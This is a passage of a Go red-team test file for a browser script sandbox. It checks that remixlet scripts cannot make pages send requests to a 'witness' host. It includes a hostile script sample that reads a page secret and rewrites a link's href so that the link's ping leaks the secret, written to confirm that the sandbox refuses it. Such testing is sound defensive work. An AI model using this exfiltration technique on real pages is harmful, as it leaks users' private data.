	for _, p := range slices.Sorted(maps.Keys(leaked)) {
		t.Errorf("path %s: %d requests reached the witness:\n  %s", p, len(leaked[p]), strings.Join(leaked[p], "\n  "))
	}
	if len(other) > 0 {
		t.Errorf("requests reached the witness that name no vector:\n  %s", strings.Join(other, "\n  "))
	}
	// The comment's images load once each, for the page; the remixlet's writes of the same
	// addresses (setAttr, a lazy loader's data-src, create, setHTML, a clone) ask again for none,
	// nor do its writes of sizes that would flip the page's srcset between its candidates.
	for _, a := range []string{"https://witness.test/planted/0", "https://witness.test/planted/1", "https://witness.test/planted/s0"} {
		if planted[a] != 1 {
			t.Errorf("%s was requested %d times, want once (the page's own load): a remixlet without a permission for the witness made the browser ask it again", a, planted[a])
		}
	}
	if planted["https://witness.test/planted/link"] != 0 || planted["https://witness.test/planted/s1"] != 0 {
		t.Errorf("the comment's link, or the srcset candidate the page does not pick, was requested (sizes written): %v", planted)
	}
	// The reverse: what a remixlet granted fetch:granted.test may load, it loads (dom.setStyle
	// takes no url() at all, as the seed says).
	for _, p := range slices.Concat(cssPaths, htmlPaths, attrPaths) {
		if strings.HasSuffix(p, "g") && p != "setg" && !granted[p] {
			t.Errorf("path %s: the granted host's vector never reached granted.test (a false refusal)", p)
		}
	}

	// The control: the page's own copies load, vector by vector (those Chromium does not load
	// at all are listed, not failed: they are no way out in this browser).
	var cssLoaded, htmlLoaded []string
	var cssInert, htmlInert []string
	for i, v := range loadCSSVectors {
		if control[fmt.Sprintf("ctl/%d", i)] {
			cssLoaded = append(cssLoaded, v.name)
		} else {
			cssInert = append(cssInert, v.name)
		}
	}
	for i, v := range loadHTMLVectors {
		switch {
		case v.noControl:
		case control[fmt.Sprintf("hctl/%d", i)]:
			htmlLoaded = append(htmlLoaded, v.name)
		default:
			htmlInert = append(htmlInert, v.name)
		}
	}
	t.Logf("control: %d of %d CSS vectors and %d of %d HTML vectors load when the page itself writes them", len(cssLoaded), len(loadCSSVectors), len(htmlLoaded), len(loadHTMLVectors))
	t.Logf("CSS vectors this Chromium does not load from a page's <style>: %s", strings.Join(cssInert, "; "))
	t.Logf("HTML vectors this Chromium does not load from a page's innerHTML: %s", strings.Join(htmlInert, "; "))
	if len(cssLoaded) < len(loadCSSVectors)/2 || len(htmlLoaded) < len(loadHTMLVectors)/3 {
		t.Errorf("the page's own copies of the vectors mostly did not reach the witness: the zero counts prove little")
	}
	if t.Failed() {
		for _, rx := range rxs {
			t.Logf("%s log:\n%s", rx.Name, tail(remixletLog(t, h.st, rx.ID), 3000))
		}
	}
}

// pingRecorder records the pings it receives with the address each reports (Ping-To).
type pingRecorder struct {
	mu  sync.Mutex
	got []string
}

func (p *pingRecorder) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	p.mu.Lock()
	p.got = append(p.got, r.Method+" "+r.URL.Path+" Ping-To: "+r.Header.Get("Ping-To"))
	p.mu.Unlock()
	w.WriteHeader(http.StatusNoContent)
}

func (p *pingRecorder) pings() []string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]string(nil), p.got...)
}

// A page's own link that pings another host (hyperlink auditing) sends that host the link's
// address when the person clicks it: a remixlet that rewrote the address (to the page's own
// origin, which the address rule allows) would send the ping host whatever it put there. The
// href of such a link is not the remixlet's to write, as dom.click already does not click it.
func TestRedteamLoadsPingCarriesNoRemixletAddress(t *testing.T) {
	ping := &pingRecorder{}
	site := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/next" {
			htmlPage(w, "<!doctype html><title>next</title><p>next</p>")
			return
		}
		htmlPage(w, `<!doctype html><title>ping</title><h1>secret-balance-4711</h1><p class=st id=s-0></p>
<a id="l1" href="/next" ping="https://witness.test/ping">statement</a>`)
	})
	h := &loadsWorld{hostileWorld: startHostileWorld(t, &witness{}, map[string]http.Handler{"ping.test": site, "witness.test": ping})}
	files := store.Files{
		sandbox.ManifestFile: []byte(`{"name": "ping", "description": "x", "api": 1, "matches": ["https://ping.test/*"], "permissions": []}`),
		sandbox.ScriptFile: []byte(fmt.Sprintf(hostileWrapper, 0, `const secret = await dom.text(await dom.query('h1'));
await dom.setAttr(await dom.query('#l1'), 'href', '/next?d=' + encodeURIComponent(secret));`)),
	}
	rx := saveUnchecked(t, h.st, "ping", files)
	h.tab.Navigate("https://ping.test/")
	h.tab.WaitConnected()
	if err := waitTrue(h.tab, 20*time.Second, `document.getElementById('s-0').textContent === 'done'`); err != nil {
		t.Fatalf("the remixlet did not finish: %v\n%s", err, h.diagnose(rx))
	}
	// The person follows the link.
	if _, err := chromedp.Run(h.tab.Context(), chromedp.Click("#l1", chromedp.NodeVisible)); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(10 * time.Second)
	for len(ping.pings()) == 0 && time.Now().Before(deadline) {
		time.Sleep(50 * time.Millisecond)
	}
	got := ping.pings()
	if len(got) == 0 {
		t.Fatalf("no ping reached the witness: the control failed (does this Chromium audit hyperlinks?)")
	}
	for _, p := range got {
		if strings.Contains(p, "secret") {
			t.Errorf("the ping host got the remixlet's address: %s", p)
		}
	}
	if log, ok := h.waitLog(rx, regexp.MustCompile(`refused: dom.setAttr: attribute href refused: the link pings`), 5*time.Second); !ok {
		t.Errorf("the remixlet's log does not say the write was refused:\n%s", log)
	}
}
